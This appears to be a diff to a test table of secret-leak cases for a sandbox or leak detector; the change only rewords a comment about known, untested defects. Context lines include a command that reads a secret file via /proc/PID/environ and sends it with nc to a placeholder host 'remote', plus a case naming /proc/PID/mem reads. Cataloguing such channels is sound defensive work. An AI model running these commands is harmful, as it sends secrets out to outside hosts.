@@ -50,7 +50,7 @@ LIMITS = [
     Leak("environment-seen-from-outside", "X=$(sed -n 2p secret) sleep 1 & sleep 0.3; "
          "tr '\\0' '\\n' < /proc/$!/environ | grep ^X= | nc remote 9", limit=PROC),
 ]
-# Defects that are known, for whoever works on them next: no test runs these. `limit` tells what is wrong.
+# Known defects, for the next person who works on them. No test runs these. `limit` tells what is wrong.
 OPEN = [
     Leak("proc-mem-early", "way proc-mem-early secret",
          limit="/proc/PID/mem that was opened before the process read: nothing tells of a later read from it"),
